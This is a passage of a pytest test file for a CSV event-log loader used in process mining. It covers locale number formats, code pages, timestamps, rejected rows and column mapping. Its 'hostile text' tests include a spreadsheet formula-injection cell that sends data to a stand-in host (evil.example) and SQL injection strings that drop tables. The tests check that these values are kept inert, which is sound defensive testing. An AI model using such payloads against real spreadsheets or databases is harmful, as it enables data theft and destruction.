        pytest.param(["12.5", "3", "0.99", "1234.5"], [12.5, 3, 0.99, 1234.5], id="plain"),
        # Two points can only group thousands: 1.234.567 was rejected, 1.250 read as 1.25.
        pytest.param(["1.250", "980", "1.234.567", "45"], [1250, 980, 1234567, 45], id="points-group"),
        # Three decimals after a lone 0, or after four digits, are decimals: no thousands group writes them.
        pytest.param(["1.250", "0.125", "3.459", "2"], [1.25, 0.125, 3.459, 2], id="mills"),
        pytest.param(["1.250", "1250.500", "3", "4"], [1.25, 1250.5, 3, 4], id="mills-long"),
        # Swiss apostrophes grouping thousands (the typographic one too): "not a number" before (fuzzer).
        pytest.param(
            ["1'234.56", "980.50", "12\u2019000.00", "-2'500.00"], [1234.56, 980.5, 12000, -2500], id="swiss"
        ),
        # A negative amount as SAP writes it, and in an accounting format's brackets: "not a number" before.
        pytest.param(
            ["12.500,00-", "980,50", "(1.234,56)", "-5,00"], [-12500, 980.5, -1234.56, -5], id="sap-minus"
        ),
        pytest.param(
            ["(12,500.00)", "980.50", "12.50-", "($5.00)"], [-12500, 980.5, -12.5, -5], id="brackets"
        ),
        # A spreadsheet's currency format, saved as text: rejected as "not a number" before.
        pytest.param(
            ["$1,234.56", "-$5.00", "USD 12,000.10", "3.50 USD"], [1234.56, -5, 12000.1, 3.5], id="usd"
        ),
        pytest.param(["1.234,56 €", "-5,00 €", "€ 12,50", "EUR 3,5"], [1234.56, -5, 12.5, 3.5], id="eur"),
        # French and Czech group thousands with spaces (Excel: no-break ones); currencies as words.
        pytest.param(
            ["1 234,56 €", "-5,00 Kč", "1\u00a0234,5 zł", "2\u202f000,75 kr"],
            [1234.56, -5, 1234.5, 2000.75],
            id="fr-cz",
        ),
    ],
)
def test_a_cost_is_read_in_the_columns_own_number_format(store, tmp_path, written, read):
    path = tmp_path / "costs.csv"
    rows = [f'c{i // 2},step {i % 2},2024-03-0{1 + i} 09:00,"{v}"' for i, v in enumerate(written)]
    path.write_text("case_id,activity,timestamp,cost\n" + "\n".join(rows) + "\n")
    s = load(store, path)
    assert s.rejected_rows == 0
    assert [c for (c,) in store.query("SELECT cost FROM events ORDER BY row_no").rows] == pytest.approx(read)


@pytest.mark.parametrize(
    ("delimiter", "read"),
    [
        # A semicolon file comes from a locale whose decimal sign is the comma: 1.250 is 1250.  Before,
        # it was 1.25 without a word, a German export's whole-euro costs a thousand times too small.
        pytest.param(";", [1250, 980, 12500, 45], id="semicolons"),
        # A comma file's 1.250 stays 1.25, as before.
        pytest.param(",", [1.25, 980, 12.5, 45], id="commas"),
    ],
)
def test_a_point_before_three_digits_is_read_as_the_files_locale_writes_it(store, tmp_path, delimiter, read):
    path = tmp_path / "kosten.csv"
    rows = [
        ("V1", "Prüfung", "01.03.2025 10:00", "1.250"),
        ("V1", "Freigabe", "01.03.2025 11:00", "980"),
        ("V2", "Prüfung", "02.03.2025 10:00", "12.500"),
        ("V2", "Freigabe", "13.03.2025 10:00", "45"),
    ]
    lines = [delimiter.join(("Vorgang", "Tätigkeit", "Zeitstempel", "Kosten"))] + [
        delimiter.join(r) for r in rows
    ]
    path.write_text("\n".join(lines) + "\n")
    s = load(store, path)
    assert (s.rejected_rows, s.mapping.cost) == (0, "Kosten")
    assert [c for (c,) in store.query("SELECT cost FROM events ORDER BY row_no").rows] == pytest.approx(read)


@pytest.mark.parametrize(
    ("name", "people"),
    [
        ("cp1252_dutch_small.csv", {"Ana Muñoz", "Zoë Lefèvre", "Émilie Côté", "Jürgen Müller"}),
        ("cp1252_french_small.csv", {"Émilie Côté", "Jürgen Müller"}),
    ],
)
def test_a_small_western_file_is_not_read_as_a_baltic_or_mac_code_page(store, name, people):
    # Written by the export-shape fuzzer in cp1252: the 2 KB Dutch one was read as Baltic cp1257 ("Ana
    # Muńoz"), the French one as Mac Latin 2, its headers garbled; charset-normalizer ranked those first.
    load(store, name, max_rejects=0.5)
    assert people <= {r for (r,) in store.query("SELECT DISTINCT resource FROM events").rows}


@pytest.mark.parametrize(
    ("words", "encoding"),
    [
        (["Заявка принята", "Проверка", "Иванов Пётр", "Смирнова Анна"], "cp1251"),
        (["Παραλαβή αιτήματος", "Έλεγχος", "Παπαδόπουλος", "Γεωργίου"], "cp1253"),
    ],
    ids=["russian", "greek"],
)
def test_a_file_in_another_alphabets_code_page_keeps_it(store, tmp_path, words, encoding):
    # The wider margin for Western readings holds only for text of mostly ASCII letters.
    first, second, who, other = words
    rows = [("c1", first, "2026-03-01 09:00", who), ("c1", second, "2026-03-02 09:00", other)]
    rows += [("c2", first, "2026-03-03 09:00", other), ("c2", second, "2026-03-04 09:00", who)]
    path = tmp_path / "export.csv"
    text = "case_id;activity;timestamp;resource\n" + "".join(";".join(r) + "\n" for r in rows)
    path.write_bytes(text.encode(encoding))
    load(store, path)
    stored = store.query("SELECT activity, resource FROM events ORDER BY row_no").rows
    assert stored == [(r[1], r[3]) for r in rows]


def test_a_header_repeated_inside_the_file_is_named_as_one(store, tmp_path):
    # Two exports joined end to end: the second's header was "does not match the timestamp format".
    rows = ["case,activity,time"] + [f"c{i},Open,2026-01-{i:02d} 09:00" for i in range(1, 21)]
    rows += ["case,activity,time"] + [f"c{i},Close,2026-01-{i:02d} 17:00" for i in range(1, 21)]
    path = tmp_path / "joined.csv"
    path.write_text("\n".join(rows) + "\n")
    s = load(store, path, max_rejects=0.1)
    assert (s.events, s.rejected_rows) == (40, 1)
    assert rejects_of(s) == [
        (21, "time", "the header line again: the file joins several exports, each with its header", "time")
    ]


def test_excel_sep_line(store):
    assert (INGEST / "excel_sep_line.csv").read_text(encoding="utf-8").startswith("sep=;\n")
    s = load(store, "excel_sep_line.csv")
    assert counts(s) == (2, 4, 2, 1, 0)
    assert (s.mapping.case, s.mapping.activity, s.mapping.timestamp) == ("case_id", "activity", "timestamp")
    assert events(store) == UMLAUT_ROWS


def test_a_reports_title_lines_above_the_header_are_skipped_and_said(store):
    # A report export: a title, an export date and a blank line, then the table.
    s = load(store, "report_title.csv", max_rejects=0.5)
    assert counts(s) == (2, 3, 2, 2, 1)
    assert (s.mapping.case, s.mapping.activity, s.mapping.timestamp) == ("case_id", "activity", "timestamp")
    # rows are still counted from the header, as for every file
    assert rejects_of(s) == [
        (3, "timestamp", "does not match the column's timestamp format ISO 8601", "not a time")
    ]
    issue = next(q for q in s.quality if q.kind == "skipped_preamble")
    assert (issue.count, issue.examples) == (
        2,
        ("Incident report: all assignment groups", "Exported 2024-02-01 08:00 by admin"),
    )
    assert issue.message == "2 lines above the header were read as a title and skipped, not loaded as rows"


@pytest.mark.parametrize("pad", ["", " "], ids=["plain", "padded"])
def test_a_title_above_a_table_whose_fields_hold_line_breaks_is_skipped(store, tmp_path, pad):
    # Comments with line breaks inside quotes: counted line by line, the table looked irregular, so the
    # title was taken for the header ("cannot tell which column is the case"); with fields padded with
    # spaces, a quote after them did not open the field to the check.  Found by the fuzzer.
    rows = ["Incident export", "Case ID,Activity,Timestamp,Comment"]
    for i in range(1, 8):
        rows += [
            f"C-{i},Open,2025-03-0{i}T10:00:00Z,{pad}ok",
            f'C-{i},Resolve,2025-03-0{i}T11:00:00Z,{pad}"Customer called,\nsee ticket {i}"',
            f'C-{i},Close,2025-03-0{i}T12:00:00Z,{pad}"two\nline\nbreaks"',
        ]
    path = tmp_path / "multiline.csv"
    path.write_text("\n".join(rows) + "\n")
    s = load(store, path)
    assert (s.cases, s.events, s.rejected_rows, s.mapping.case) == (7, 21, 0, "Case ID")
    issue = next(q for q in s.quality if q.kind == "skipped_preamble")
    assert issue.examples == ("Incident export",)
    if not pad:
        comments = store.query('SELECT a1 FROM "attrs_1" ORDER BY row_no LIMIT 2').rows
        assert comments == [("ok",), ("Customer called,\nsee ticket 1",)]


@pytest.mark.parametrize(
    ("first", "step", "pattern"),
    [(1700000000123, 3_600_000, "unix milliseconds"), (45246.375, 1 / 24, "Excel serial days")],
    ids=["unix-ms", "excel"],
)
def test_a_totals_row_under_numeric_times_is_one_reject(store, tmp_path, first, step, pattern):
    # The report's "Total" line sits in the time column: the column was not taken for times at all
    # ("cannot tell which column is the timestamp"), where ISO times made it one rejected row.
    rows = ["Time,Case ID,Activity,Cost"]
    for i in range(20):
        rows.append(f"{first + i * step},C-{i // 2},{'Open' if i % 2 == 0 else 'Close'},1.50")
    rows.append("Total,,,30.00")
    path = tmp_path / "report.csv"
    path.write_text("\n".join(rows) + "\n")
    s = load(store, path, max_rejects=0.1)
    assert (s.timestamp_formats, s.events, s.rejected_rows) == ({"timestamp": pattern}, 20, 1)
    assert rejects_of(s)[0][:2] == (21, "Case ID")


def test_excel_serial_day_numbers_are_read_as_times(store, tmp_path):
    # A sheet whose date cells lost their format exports days since 1899-12-30 with the time as a fraction.
    s = load(store, "excel_serial_days.csv")
    assert (s.mapping.timestamp, s.mapping.timestamp_format) == ("timestamp", "Excel serial days")
    assert timestamps(store) == [
        (1, T("2024-01-02 09:00")),
        (2, T("2024-01-02 12:00")),
        (3, T("2024-01-03 09:45")),
        (4, T("2024-01-03 18:00")),
    ]
    # Whole day numbers alone could be counts or ids: only read as dates when asked for.
    whole = tmp_path / "whole_days.csv"
    whole.write_text("case_id,activity,timestamp\n1,Open,45293\n1,Close,45294\n")
    with pytest.raises(IngestError, match="cannot tell which column is the timestamp"):
        load(store, whole)
    s = load(store, whole, timestamp_format="excel")
    assert store.query("SELECT ts FROM events WHERE log_id = ? ORDER BY row_no", [s.log_id]).rows == [
        (T("2024-01-02 00:00"),),
        (T("2024-01-03 00:00"),),
    ]


def test_a_first_export_of_one_event_per_case_still_finds_its_time_column(store, tmp_path):
    # Nothing can change within a one-event case, so no column looked like an event time: such a file
    # (a first try with three rows, say) was refused with "cannot tell which column is the timestamp".
    path = tmp_path / "three.csv"
    path.write_text("case,activity,time\n1,A,2024-01-01 10:00\n2,B,2024-01-02 11:00\n3,C,2024-01-03 12:00\n")
    s = load(store, path)
    assert (s.mapping.case, s.mapping.activity, s.mapping.timestamp) == ("case", "activity", "time")
    assert (s.cases, s.events) == (3, 3)
    assert timestamps(store) == [
        (1, T("2024-01-01 10:00")),
        (2, T("2024-01-02 11:00")),
        (3, T("2024-01-03 12:00")),
    ]


def test_a_header_short_of_a_trailing_delimiter_is_still_the_header(store):
    # Every row ends in a delimiter, the header does not: the header is not taken for a title.
    s = load(store, "trailing_delimiter.csv")
    assert counts(s) == (2, 4, 2, 1, 0)
    assert "skipped_preamble" not in quality_of(s)
    assert events(store)[0][1:3] == ("1", "Open")


# --------------------------------------------------------------------------- values


def test_ids_stay_text(store):
    s = load(store, "id_text.csv")
    assert counts(s) == (3, 6, 2, 1, 0)
    assert store.query("SELECT case_id FROM cases ORDER BY case_no").rows == [
        ("00123",),
        ("1.23457E+15",),
        ("123",),
    ]


def test_missing_values_and_null_tokens(store):
    s = load(store, "missing_values.csv", max_rejects=0.8)
    assert counts(s) == (3, 5, 3, 3, 5)
    # A name is missing only when its field is empty or blank; a time also when it is a null word.
    assert rejects_of(s) == [
        (2, "case_id", "missing case id", None),  # empty
        (3, "activity", "missing activity", None),  # empty
        (4, "timestamp", "missing timestamp", None),  # empty
        (7, "timestamp", "missing timestamp", "N/A"),  # a null word, shown as written
        (8, "case_id", "missing case id", "  "),  # blanks, shown as written
    ]
    assert s.missing_words == {"timestamp": {"N/A": 1}}
    # NULL, nan and NULL are values in the case, activity and resource columns.
    assert store.query("SELECT row_no, case_id, activity, resource FROM events ORDER BY row_no").rows == [
        (1, "1", "A", "ann"),
        (5, "NULL", "B", "bob"),
        (6, "1", "nan", "bob"),
        (9, "2", "A", "NULL"),
        (10, "2", "B", None),
    ]


def test_control_characters_reject_the_row(store):
    s = load(store, "control_chars.csv", max_rejects=0.5)
    assert counts(s) == (2, 4, 2, 1, 2)
    assert rejects_of(s) == [
        (2, "activity", "control character U+0007 in the row", "B\x07"),  # BEL
        (5, "note", "control character U+001B in the row", "esc\x1b[31mred"),  # ESC
    ]
    assert [r[0] for r in events(store)] == [1, 3, 4, 6]


def test_nul_in_a_cell_rejects_the_row(store, tmp_path):
    path = tmp_path / "nul_cell.csv"
    path.write_bytes(
        b"case_id,activity,timestamp,note\n1,A,2024-01-01 10:00,ok\n1,B,2024-01-01 11:00,bad\x00cell\n"
        b"2,A,2024-01-02 10:00,ok\n2,B,2024-01-02 11:00,ok\n2,C,2024-01-02 12:00,ok\n"
    )
    s = load(store, path, max_rejects=0.5)
    assert counts(s) == (2, 4, 3, 2, 1)
    assert rejects_of(s) == [(2, "note", "control character U+0000 in the row", "bad\x00cell")]
    assert store.scalar("SELECT count(*) FROM events WHERE contains(activity, chr(0))") == 0


def test_characters_xml_forbids_reject_the_row(store, tmp_path):
    # U+FFFE and U+FFFF are valid UTF-8 but no character: a BPMN or PNML export could not hold them.
    path = tmp_path / "noncharacters.csv"
    path.write_text(
        "case_id,activity,timestamp\n1,A,2024-01-01 10:00\n1,Approve\ufffe,2024-01-01 11:00\n"
        "2,A,2024-01-02 10:00\n2,B,2024-01-02 11:00\n3,Ship\uffff,2024-01-03 10:00\n3,A,2024-01-03 11:00\n",
        encoding="utf-8",
    )
    s = load(store, path, max_rejects=0.5)
    assert counts(s) == (3, 4, 2, 2, 2)
    why = "in the row, which XML forbids (not a character in any text)"
    assert rejects_of(s) == [
        (2, "activity", f"character U+FFFE {why}", "Approve\ufffe"),
        (5, "activity", f"character U+FFFF {why}", "Ship\uffff"),
    ]
    assert (
        store.scalar("SELECT count(*) FROM events WHERE regexp_matches(activity, '[\\x{FFFE}\\x{FFFF}]')")
        == 0
    )


def test_nul_in_a_header_is_refused(store, tmp_path):
    path = tmp_path / "nul_header.csv"
    path.write_bytes(b"case_id,activ\x00ity,timestamp\n1,A,2024-01-01 10:00\n1,B,2024-01-01 11:00\n")
    with pytest.raises(UnsafeInput, match=r"^nul_header\.csv: the header contains a NUL character$"):
        load(store, path)
    assert_workspace_empty(store)


def test_duplicates_and_ties_are_kept_and_counted(store):
    s = load(store, "duplicates_ties.csv")
    assert counts(s) == (2, 6, 3, 2, 0)
    assert quality_of(s) == {"duplicate_events": 1, "timestamp_ties": 2}
    # Tied events keep the file's order: C (row 4) before A (row 5).
    assert store.query(
        "SELECT row_no, activity, next_activity FROM events WHERE case_id = '2' ORDER BY row_no"
    ).rows == [(4, "C", "A"), (5, "A", "B"), (6, "B", None)]
    assert store.query("SELECT variant_id, activities FROM variants ORDER BY variant_id").rows == [
        (1, ["A", "A", "B"]),
        (2, ["C", "A", "B"]),
    ]
    # One duplicate, in words that agree with it.
    words = {q.kind: q.message for q in s.quality}
    assert words["duplicate_events"] == (
        "1 event repeats another event exactly (same case, activity, time and resource); it is kept and counted"
    )
    assert words["timestamp_ties"] == (
        "2 events in 1 case share their timestamp with a different activity; their order follows the file"
    )


def test_sentinel_dates_are_counted(store):
    s = load(store, "sentinel_dates.csv")
    assert counts(s) == (3, 6, 2, 2, 0)
    assert quality_of(s) == {"sentinel_dates": 2}
    issue = next(q for q in s.quality if q.kind == "sentinel_dates")
    assert issue.examples == ("case 1: 1970-01-01", "case 2: 9999-12-31")


def test_complete_before_start_is_counted(store):
    s = load(store, "complete_before_start.csv")
    assert counts(s) == (3, 6, 2, 1, 0)
    assert s.mapping.start_timestamp == "start_timestamp"
    assert quality_of(s) == {"complete_before_start": 2}
    issue = next(q for q in s.quality if q.kind == "complete_before_start")
    assert issue.examples == ("case 1: B", "case 3: A")


# --------------------------------------------------------------------------- hostile text


def test_formula_cells_load_verbatim_and_export_neutralised(store, tmp_path):
    s = load(store, "formula_injection.csv", max_rejects=0.5)
    assert counts(s) == (3, 5, 4, 3, 2)
    hyperlink = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
    assert [r[:3] for r in events(store)] == [
        (1, "1", hyperlink),
        (2, "1", "B"),
        (3, "2", "@SUM(A1)"),
        (4, "2", "B"),
        (5, "3", "+1"),
    ]
    assert attributes(store) == (["note"], [(1, "+1"), (2, "-2"), (3, "=1+1"), (4, "plain"), (5, "@SUM(A1)")])
    assert rejects_of(s) == [(6, "timestamp", NOT_ISO, "=NOW()"), (7, "timestamp", NOT_ISO, "@TODAY")]
    out = tmp_path / "rejects.csv"
    assert export_rejects(list(s.rejects), out) == 2
    assert out.read_bytes().decode("utf-8") == (
        "file,row,column,reason,value\r\n"
        f"formula_injection.csv,6,timestamp,{NOT_ISO},'=NOW()\r\n"
        f"formula_injection.csv,7,timestamp,{NOT_ISO},'@TODAY\r\n"
    )
    with out.open(encoding="utf-8", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert not any(c[:1] in {"=", "+", "-", "@"} for c in cells)


def test_sql_like_header_and_cells_are_data(store):
    s = load(store, "sql_injection.csv")
    assert counts(s) == (2, 4, 3, 2, 0)
    header = 'case_id" FROM ev; DROP TABLE logs; --'
    assert s.mapping.case == "case_id"
    assert [r[2] for r in events(store)] == ["A", "'); DROP TABLE events; --", "A", "B"]
    assert attributes(store) == (
        [header],
        [(1, "'); DROP TABLE events; --"), (2, "x"), (3, 'Robert"); DROP TABLE cases;--'), (4, "y")],
    )
    assert WORKSPACE_TABLES | {"attrs_1"} <= table_names(store)
    assert store.scalar("SELECT count(*) FROM logs") == 1
    assert store.scalar("SELECT count(*) FROM cases") == 2


def test_duplicate_and_empty_headers_are_renamed(store):
    s = load(store, "duplicate_headers.csv")
    assert counts(s) == (2, 4, 2, 1, 0)
    assert quality_of(s) == {"renamed_columns": 3}
    issue = next(q for q in s.quality if q.kind == "renamed_columns")
    assert issue.message == (
        "some headers were empty or repeated and were renamed: column 4 (empty header) -> 'column_4'; "
        "column 6 'category' (repeated) -> 'category_2'; column 7 (empty header) -> 'column_7'"
    )
    names, rows = attributes(store)
    assert names == ["column_4", "category", "category_2", "column_7"]
    assert rows[0] == (1, "x1", "red", "big", "z1")


# --------------------------------------------------------------------------- thresholds, reruns, appends


def test_one_bad_row_in_ten_loads_under_a_higher_threshold(store):
    s = load(store, "one_bad_in_ten.csv", max_rejects=0.2)
    assert counts(s) == (5, 9, 2, 2, 1)
    assert rejects_of(s) == [(6, "timestamp", NOT_ISO, "yesterday")]


def test_same_file_twice_is_unchanged(store):
    first = load(store, "tiny_log.csv")
    assert first.status == "loaded"
    second = load(store, "tiny_log.csv")
    assert second.status == "unchanged"
    assert counts(second) == counts(first) == (2, 4, 2, 1, 0)
    assert second.events_added == 0
    assert store.scalar("SELECT count(*) FROM ingest_runs") == 1
    assert store.scalar("SELECT count(*) FROM events") == 4


def test_same_file_with_other_options_is_refused_not_called_unchanged(store):
    # It printed "unchanged" and kept the earlier reading: the user believed the new case column was used.
    load(store, "tiny_log.csv")
    head = (INGEST / "tiny_log.csv").read_text().splitlines()[0].split(",")
    with pytest.raises(IngestError) as info:
        load(store, "tiny_log.csv", roles={"case": head[1]}, timezone="Europe/Rome")
    assert str(info.value) == (
        "tiny_log.csv is already loaded into the log 'tiny_log', read with other options: "
        f"case {head[1]!r} (the log has {head[0]!r}); time zone 'Europe/Rome' (the log has 'UTC')"
    )
    assert info.value.hint.startswith("a file is loaded once: to read it otherwise, delete the log first")
    # The same options as stored, given again, are the same reading.
    assert load(store, "tiny_log.csv", roles={"case": head[0]}, timezone="UTC").status == "unchanged"
    assert store.scalar("SELECT count(*) FROM ingest_runs") == 1


def test_other_data_under_the_same_name_needs_append(store):
    load(store, "append_export_1.csv", name="orders")
    with pytest.raises(IngestError) as info:
        load(store, "append_export_2.csv", name="orders")
    assert type(info.value) is IngestError
    assert str(info.value) == "a log named 'orders' already exists and was loaded from other data"
    assert "--append" in info.value.hint
    assert store.scalar("SELECT count(*) FROM ingest_runs") == 1
    assert store.scalar("SELECT count(*) FROM events") == 4


def _event_multiset(store: Store) -> list[tuple]:
    return store.query(
        "SELECT case_id, activity, ts, resource FROM events ORDER BY case_id, ts, activity, resource"
    ).rows


def test_append_adds_only_new_events(store):
    first = load(store, "append_export_1.csv", name="orders")
    assert counts(first) == (2, 4, 2, 2, 0)
    s = load(store, "append_export_2.csv", name="orders", append=True)
    assert s.status == "appended"
    assert s.events_added == 3
    assert counts(s) == (3, 7, 2, 2, 0)
    # The new events keep their row in the second file (rows 5-11 of the log's runs).
    assert store.query(
        "SELECT row_no, run_id, case_id, activity FROM events WHERE run_id = 2 ORDER BY row_no"
    ).rows == [
        (9, 2, "2", "B"),
        (10, 2, "3", "A"),
        (11, 2, "3", "B"),
    ]
    with Store() as union:
        once = load(union, "append_export_2.csv", name="orders")
        assert counts(once) == counts(s)
        assert _event_multiset(union) == _event_multiset(store)
        assert (
            union.query("SELECT activities, n_cases FROM variants ORDER BY variant_id").rows
            == store.query("SELECT activities, n_cases FROM variants ORDER BY variant_id").rows
        )
    again = load(store, "append_export_2.csv", name="orders", append=True)
    assert again.status == "unchanged"
    assert store.scalar("SELECT count(*) FROM ingest_runs") == 2


def test_append_missing_a_mapped_column(store):
    load(store, "append_export_1.csv", name="orders")
    with pytest.raises(AppendMismatch) as info:
        load(store, "append_no_resource.csv", name="orders", append=True)
    assert str(info.value) == (
        "append_no_resource.csv: --append needs the columns the log was built from; missing ['resource']"
    )
    assert store.scalar("SELECT count(*) FROM ingest_runs") == 1
    assert store.scalar("SELECT count(*) FROM events") == 4


def test_append_without_a_log(store):
    with pytest.raises(IngestError, match=r"^--append: there is no log named 'orders' to append to$"):
        load(store, "append_export_1.csv", name="orders", append=True)
    assert_workspace_empty(store)


# --------------------------------------------------------------------------- roles


def test_detected_case_column(store):
    s = load(store, "role_override.csv")
    assert s.mapping.case == "case_id"
    assert counts(s) == (2, 6, 2, 2, 0)


def _three_columns(tmp_path, header: str, third: list[str], fourth: list[str] | None = None) -> Path:
    path = tmp_path / "unnamed.csv"
    rows = [header] + [
        f"c{i // 2},step {i % 2},{third[i]}" + (f",{fourth[i]}" if fourth else "") for i in range(len(third))
    ]
    path.write_text("\n".join(rows) + "\n")
    return path


def test_time_column_without_a_timestamp_name_is_found_by_its_values(store, tmp_path):
    times = ["2024-03-01 09:00", "2024-03-01 10:30", "2024-03-02 08:00", "2024-03-02 12:00"]
    # "wann" (German for "when") is no name the mapping knows.
    s = load(store, _three_columns(tmp_path, "case_id,activity,wann", times))
    [guess] = [g for g in s.guesses if g.role == "timestamp"]
    assert (guess.column, guess.confidence) == ("wann", 0.6)
    assert guess.reason.startswith("not a timestamp name, but its values are times; parses as ISO 8601")
    assert counts(s)[:2] == (2, 4)
    assert timestamps(store)[1] == (2, T("2024-03-01 10:30"))


@pytest.mark.parametrize(
    ("header", "encoding", "delimiter"),
    [
        pytest.param(
            ("Vorgang", "Tätigkeit", "Zeitpunkt", "Bearbeiter", "Kosten"), "cp1252", ";", id="german"
        ),
        pytest.param(
            ("Zaaknummer", "Activiteit", "Tijdstip", "Medewerker", "Kosten"), "utf-8", ";", id="dutch"
        ),
        pytest.param(("Commande", "Étape", "Horodatage", "Utilisateur", "Coût"), "utf-8", ";", id="french"),
        pytest.param(("Caso", "Actividad", "Fecha y hora", "Usuario", "Costo"), "utf-8", ",", id="spanish"),
        # Windows' Central European code page, told from cp1252 by the headers' letters alone.
        pytest.param(("Případ", "Činnost", "Čas", "Řešitel", "Náklady"), "cp1250", ";", id="czech"),
        pytest.param(("Zgłoszenie", "Czynność", "Czas", "Wykonawca", "Koszt"), "cp1250", ";", id="polish"),
        # Each of these was refused: "cannot tell which column is the case".
        pytest.param(
            ("Pratica", "Attività", "Data e ora", "Operatore", "Costo"), "cp1252", ";", id="italian"
        ),
        pytest.param(
            ("Processo", "Atividade", "Data/Hora", "Responsável", "Custo"), "utf-8", ";", id="portuguese"
        ),
        pytest.param(
            ("Ärende", "Aktivitet", "Tidpunkt", "Handläggare", "Kostnad"), "utf-8", ";", id="swedish"
        ),
        pytest.param(
            ("Sagsnummer", "Aktivitet", "Tidspunkt", "Sagsbehandler", "Omkostning"),
            "cp1252",
            ";",
            id="danish",
        ),
        pytest.param(
            ("Tapaus", "Tapahtuma", "Aikaleima", "Käsittelijä", "Kustannus"), "utf-8", ";", id="finnish"
        ),
        pytest.param(
            ("Predmet", "Aktivnost", "Vrijeme", "Izvršitelj", "Trošak"), "utf-8", ";", id="croatian"
        ),
        pytest.param(
            ("Vaka", "Aktivite", "Zaman", "Kullan\u0131c\u0131", "Maliyet"), "utf-8", ";", id="turkish"
        ),
    ],
)
def test_headers_in_other_languages_are_mapped(store, tmp_path, header, encoding, delimiter):
    # European SMB exports (SAP, Odoo, Exact, Sage) name their columns in the user's language.
    rows = [
        ("A-1", "Anlage", "13.03.2026 09:00", "ann", "12"),
        ("A-1", "Prüfung", "13.03.2026 11:30", "bob", "30"),
        ("A-2", "Anlage", "14.03.2026 10:00", "ann", "12"),
        ("A-2", "Prüfung", "16.03.2026 08:45", "eve", "30"),
    ]
    path = tmp_path / "export.csv"
    path.write_bytes("\n".join(delimiter.join(r) for r in [header, *rows]).encode(encoding) + b"\n")
    s = load(store, path)
    m = s.mapping
    assert (m.case, m.activity, m.timestamp, m.resource, m.cost) == header
    assert counts(s) == (2, 4, 2, 1, 0)
    assert timestamps(store)[3] == (4, T("2026-03-16 08:45"))


@pytest.mark.parametrize(
    ("start", "end"),
    [
        ("Inicio", "Fin"),
        ("Début", "Fin"),
        ("Beginn", "Ende"),
        ("Inizio", "Fine"),
        ("Začátek", "Konec"),
        ("Początek", "Koniec"),
    ],
)
def test_start_and_end_named_in_other_languages_measure_processing_time(store, tmp_path, start, end):
    # Before, the start was left unused ("no start timestamps"), or the file refused: "the timestamp
    # could be any of ...".  Found by the fuzzer.
    path = tmp_path / "steps.csv"
    path.write_text(
        f"case;activity;{start};{end}\nc1;A;2026-01-01 09:00;2026-01-01 10:00\n"
        "c1;B;2026-01-02 09:00;2026-01-02 11:00\nc2;A;2026-01-03 09:00;2026-01-03 09:30\n",
        encoding="utf-8",
    )
    s = load(store, path)
    assert (s.mapping.start_timestamp, s.mapping.timestamp) == (start, end)
    spans = store.query("SELECT epoch(ts) - epoch(start_ts) FROM events ORDER BY row_no").rows
    assert [x for (x,) in spans] == [3600, 7200, 1800]


def test_role_reasons_say_when_a_count_is_an_estimate_and_who_chose(store, tmp_path):
    # 300 cases of two events, in a file of 4 columns: counted exactly.  HyperLogLog said 41 for 40 cases.
    path = tmp_path / "many.csv"
    rows = ["case_id,activity,timestamp,who"] + [
        f"c{i // 2},step {i % 2},2024-03-01 09:{i % 60:02d},{'ann' if i % 3 else 'bob'}" for i in range(600)
    ]
    path.write_text("\n".join(rows) + "\n")
    s = load(store, path, roles={"resource": "who", "lifecycle": None})
    reasons = {g.role: g.reason for g in s.guesses}
    assert reasons["case"] == "a case-id name; 300 distinct values over 600 rows (2.0 events each)"
    # With 40 more columns the count is DuckDB's estimate, and the reason says "about".
    wide = tmp_path / "wide.csv"
    extra = "".join(f",x{k}" for k in range(40))
    wide.write_text("\n".join(r + (extra if i == 0 else ",1" * 40) for i, r in enumerate(rows)) + "\n")
    with Store() as other:
        guessed = load(other, wide, roles={"resource": "who", "lifecycle": None}).guesses
    assert re.fullmatch(
        r"a case-id name; about \d{3} distinct values over 600 rows \(\d\.\d events each\)",
        {g.role: g.reason for g in guessed}["case"],
    )
    assert reasons["activity"] == "an activity name; 2 distinct values; changes within 100% of cases"
    assert "; 2 distinct values; changes within 100% of cases" in reasons["activity"]
    assert (reasons["resource"], reasons["lifecycle"]) == ("your choice", "switched off by you")
    assert s.cases == 300


def test_two_unnamed_time_columns_are_a_question_not_a_guess(store, tmp_path):
    times = ["2024-03-01 09:00", "2024-03-01 10:30", "2024-03-02 08:00", "2024-03-02 12:00"]
    with pytest.raises(AmbiguousMapping, match=r"the timestamp could be any of 'wann', 'logged'") as e:
        load(store, _three_columns(tmp_path, "case_id,activity,wann,logged", times, times))
    assert e.value.hint == "pass --timestamp COLUMN to choose"


def test_unix_seconds_under_a_neutral_name_are_not_taken_for_times(store, tmp_path):
    ids = ["1709283600", "1709289000", "1709366400", "1709380800"]
    with pytest.raises(AmbiguousMapping, match="cannot tell which column is the timestamp"):
        load(store, _three_columns(tmp_path, "case_id,activity,ref", ids))
    # Named as a time, the same digits are one.
    assert counts(load(store, _three_columns(tmp_path, "case_id,activity,time", ids)))[:2] == (2, 4)


@pytest.mark.parametrize(
    ("name", "values", "pattern"),
    [
        pytest.param("ts", ["1709283600", "1709289000", "1709366400", "1709380800"], "unix seconds", id="ts"),
        pytest.param(
            "created_at_ms",
            ["1709283600000", "1709289000000", "1709366400000", "1709380800000"],
            "unix milliseconds",
            id="with-unit",
        ),
    ],
)
def test_unix_times_named_short_or_with_their_unit_are_times(store, tmp_path, name, values, pattern):
    s = load(store, _three_columns(tmp_path, f"case_id,activity,{name}", values))
    assert (s.mapping.timestamp, s.timestamp_formats) == (name, {"timestamp": pattern})
    assert timestamps(store)[1] == (2, T("2024-03-01 10:30"))


@pytest.mark.parametrize(
    ("values", "pattern"),
    [
        # Slack's ts and Python's time.time(): seconds with a fraction, refused before.
        pytest.param(
            ["1709283600.123456", "1709289000.5", "1709366400", "1709380800.000001"], "unix seconds", id="s"
        ),
        pytest.param(["1709283600", "1709289030", "1709366400", "1709380800"], "unix seconds", id="s-whole"),
        pytest.param(
            ["1709283600000000", "1709289000500000", "1709366400000000", "1709380800000000"],
            "unix microseconds",
            id="us",
        ),
        pytest.param(
            ["1709283600000000000", "1709289000500000000", "1709366400000000000", "1709380800000000000"],
            "unix nanoseconds",
            id="ns",
        ),
    ],
)
@pytest.mark.parametrize("timezone", ["UTC", "Europe/Berlin"])
def test_unix_times_are_instants_to_the_microsecond_in_any_time_zone(
    store, tmp_path, values, pattern, timezone
):
    # A Unix time names an instant: before, --timezone Europe/Berlin moved 1709283600 (09:00 UTC) to 08:00.
